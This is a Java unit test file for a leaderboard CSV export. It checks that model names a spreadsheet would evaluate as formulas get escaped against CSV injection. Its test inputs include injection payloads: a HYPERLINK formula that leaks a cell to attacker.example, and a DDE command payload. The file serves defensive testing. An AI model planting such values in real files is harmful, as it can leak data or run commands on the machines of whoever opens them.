package ai.assay.api.leaderboard;

import static org.assertj.core.api.Assertions.assertThat;

import ai.assay.core.leaderboard.Leaderboard;
import ai.assay.core.leaderboard.LeaderboardLine;
import java.io.StringReader;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The CSV is opened in spreadsheets, so no cell a client chose may be read as a formula (OWASP CSV injection). */
class LeaderboardCsvTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1,2)",
                "\t=1+1",
                "\r=1+1"
            })
    void aModelNameThatASpreadsheetWouldEvaluateIsEscaped(String model) throws Exception {
        String csv = LeaderboardCsv.write(boardWith(model));

        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(csv)).getRecords();
        assertThat(records.get(1).get(0)).isEqualTo("'" + model);
    }

    @ParameterizedTest
    @ValueSource(strings = {"llama3-8b-dpo", "a=b", "x-1", "'quoted"})
    void anOrdinaryModelNameIsWrittenAsItIs(String model) throws Exception {
        String csv = LeaderboardCsv.write(boardWith(model));

        assertThat(CSVFormat.DEFAULT
                        .parse(new StringReader(csv))
                        .getRecords()
                        .get(1)
                        .get(0))
                .isEqualTo(model);
    }

    private static Leaderboard boardWith(String model) {
        LeaderboardLine line = new LeaderboardLine(
                null,
                null,
                null,
                null,
                model,
                UUID.randomUUID(),
                null,
                Map.of(),
                Map.of(),
                null,
                null,
                null,
                List.of());
        return new Leaderboard(null, null, List.of(), List.of(), "avg", List.of(line), 0);
    }
}
